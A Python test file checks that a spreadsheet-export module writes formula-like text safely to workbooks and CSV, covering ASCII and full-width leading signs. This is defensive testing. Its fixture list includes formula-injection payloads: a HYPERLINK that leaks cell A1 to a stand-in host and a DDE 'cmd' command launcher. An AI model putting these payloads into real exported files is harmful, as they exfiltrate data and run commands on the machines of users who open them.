"""Writing workbooks and CSV: text that a spreadsheet would run as a formula stays
text, whether it starts with an ASCII sign or its full-width twin (＝ ＋ － ＠), which
spreadsheet programs with East Asian input treat alike."""

import csv
import io

import pytest
from openpyxl import load_workbook

from reformledger.exchange import writing

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    '＝HYPERLINK("http://evil.example/","点击")',
    "＋1+1",
    "－2+3",
    "＠SUM(1+1)",
]


def _workbook(values: list[str]) -> bytes:
    wb = writing.new_workbook()
    ws = wb.create_sheet("台账")
    ws.append([writing.cell(ws, v) for v in values])
    ws.append(writing.plain_row(ws, values))
    return writing.to_bytes(wb)


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_full_width_or_not_is_written_to_a_workbook_as_text(text):
    ws = load_workbook(io.BytesIO(_workbook([text, "普通文字"]))).worksheets[0]

    for row in (1, 2):  # through `cell` and through `plain_row`
        written = ws.cell(row, 1)
        assert written.value == text
        assert written.data_type == "s" and written.quotePrefix
        plain = ws.cell(row, 2)
        assert plain.value == "普通文字" and not plain.quotePrefix


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_full_width_or_not_gets_an_apostrophe_in_csv(text):
    data = writing.csv_bytes([["代码", "标题"], ["2016-001", text], ["2016-002", "普通文字"]])

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + text
    assert rows[2][1] == "普通文字"
